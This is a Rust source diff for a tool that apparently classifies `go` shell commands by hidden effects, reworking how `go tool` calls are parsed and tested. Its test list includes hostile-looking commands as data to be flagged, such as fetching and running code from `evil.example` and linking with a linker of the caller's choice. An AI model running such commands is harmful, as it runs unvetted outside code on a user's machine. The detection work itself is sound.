@@ -1,7 +1,5 @@
 //! `go` and the tools around it.
 
-use tools_core::Access;
-
 use crate::reader::Value;
 use crate::registry::prelude::*;
 
@@ -46,7 +44,14 @@ pub(super) static ALL: &[Program] = &[
             ruled("generate", &[always(Obeys(SOURCES)), always(ObeysIn(At::All, SOURCES))]),
             ruled("install", &[always(FOR_USER)]),
             ruled("env", &[when(Has("-w -u"), Hides("settings of `go` that later calls obey"))]),
-            command("tool", Syntax::LEADING, &[always(ByOption(tool))]),
+            command(
+                "tool",
+                Syntax { flags: "-*", valued: "-extld -extldflags -extar -plugin", ..Syntax::SINGLE },
+                &[
+                    always(ByOption(from_elsewhere)),
+                    when(Has("-extld -extldflags -extar -plugin"), Hides("a linker of one's own choice")),
+                ],
+            ),
             each("build test"),
         ],
         plain: "bug clean doc fix fmt get help list mod telemetry version vet work",
@@ -69,11 +74,16 @@ pub(super) static ALL: &[Program] = &[
             ("go frob", Expect::Opaque("no command of it")),
             ("go tool cover -html=c.out -o .envrc", Expect::Writes(".envrc")),
             ("go tool cover -func=c.out -o=.envrc", Expect::Writes(".envrc")),
+            ("go tool compile -o x.o a.go", Expect::Writes("x.o")),
+            ("go tool link -extld=./x a.o", Expect::Opaque("a linker")),
+            ("go tool link -extld ./x a.o", Expect::Opaque("a linker")),
+            ("go tool evil.example/x@latest", Expect::Opaque("code from elsewhere")),
             ("echo x > main.go; go run .", Expect::Opaque("written by this very line")),
         ],
         plain_lines: &[
             "go test ./... -run TestX -v", "go build -ldflags='-s -w -X main.v=1' ./...", "go run . -exec x",
-            "go vet ./...", "go mod tidy", "go env GOPATH",
+            "go vet ./...", "go mod tidy", "go env GOPATH", "go tool cover -html=c.out", "go tool cover -func c.out",
+            "go tool pprof -top x.prof",
         ],
         ..SYNTAX
     },
@@ -123,22 +133,8 @@ fn linker(parsed: &Parsed<'_>) -> Vec<Effect> {
     own.then(|| Effect::hidden("a linker of one's own choice")).into_iter().collect()
 }
 
-/// `go run MODULE@VERSION` fetches what it runs.
+/// `go run MODULE@VERSION` and `go tool MODULE@VERSION` fetch what they run.
 fn from_elsewhere(parsed: &Parsed<'_>) -> Vec<Effect> {
     let fetched = parsed.operand(0).is_some_and(|package| package.text.contains('@'));
     fetched.then(|| Effect::hidden("code from elsewhere")).into_iter().collect()
-}
-
-/// `go tool NAME …`: tools that start others by their options.
-fn tool(parsed: &Parsed<'_>) -> Vec<Effect> {
-    let name = parsed.operand(0).map(|word| word.text.as_str()).unwrap_or_default();
-    let is_own = |arg: &Value| arg.text.contains("extld") || arg.text.contains("toolexec") || arg.text.contains('@');
-    let odd = name == "link" && parsed.from(1).iter().any(is_own) || name.contains('@');
-    let attached =
-        parsed.from(1).iter().filter_map(|arg| Some((arg, arg.text.trim_start_matches('-').strip_prefix("o=")?)));
-    let next = parsed.from(1).windows(2).filter(|pair| matches!(pair[0].text.as_str(), "-o" | "--o"));
-    let written = attached.chain(next.map(|pair| (&pair[1], pair[1].text.as_str())));
-    let written =
-        written.map(|(arg, file)| Effect::path(Value { text: file.to_owned(), ..arg.clone() }, Access::Write));
-    odd.then(|| Effect::hidden("a linker of one's own choice")).into_iter().chain(written).collect()
 }
